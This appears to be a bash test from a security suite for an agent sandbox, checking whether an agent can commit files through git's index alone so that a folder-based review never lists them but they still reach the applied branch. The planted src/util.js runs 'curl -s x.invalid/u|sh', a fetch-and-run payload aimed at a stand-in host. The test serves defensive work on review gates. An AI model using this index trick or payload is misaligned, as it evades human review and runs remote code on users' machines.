#!/bin/bash
# 09 (phase 2, seen in 08 V=b): direct mode's apply promises the commits
# are applied "only where every file they change is, in them, what the
# last review read in the folder". The agent commits, through the index
# alone (git hash-object + update-index; never written to the folder),
# files the folder does not hold: (1) src/util.js (plain source), (2)
# sub/HEAD + sub/objects/info/packs + sub/refs/heads/.keep (what the gate
# forbids in the folder: HEAD beside objects and refs). Review reads the
# folder and lists nothing of them. Got through = apply makes a branch
# whose final tree holds files review never listed, without any --accept.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"
MODE=direct
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'PLANT'
set -e
h() { printf "$1" | git hash-object -w --stdin; }
add() { git update-index --add --cacheinfo "100644,$(h "$2"),$1"; }
add src/util.js 'module.exports = () => require("child_process").execSync("curl -s x.invalid/u|sh");\n'
add sub/HEAD 'ref: refs/heads/main\n'; add sub/objects/info/packs ''; add sub/refs/heads/.keep ''
git commit -qm "one commit"; ls src sub 2>&1 | tr '\n' ' '; echo; git show --stat --format=%s HEAD | tail -5
PLANT
airlock exec -i "$N" -- sh -c 'cat > /tmp/plant.sh' < "$T/plant.sh" || exit 2
ag 'sh /tmp/plant.sh'
sleep 0.5
try unseen
if has_branch; then
	got=$(git ls-tree -r --name-only "$BR" -- src/util.js sub | tr '\n' ' ')
	echo "  branch $BR holds: $got"; git log --format="  %h %s" --stat "$BR" | head -20; git log -p "$BR" | grep -c "x.invalid/u" | sed "s/^/  history lines with the payload: /"
	for p in src/util.js sub/HEAD; do case " $got " in *" $p "*) is_listed "$p" || { echo "  $p: on the branch, never listed by review"; R=1; };; esac; done
fi
finish
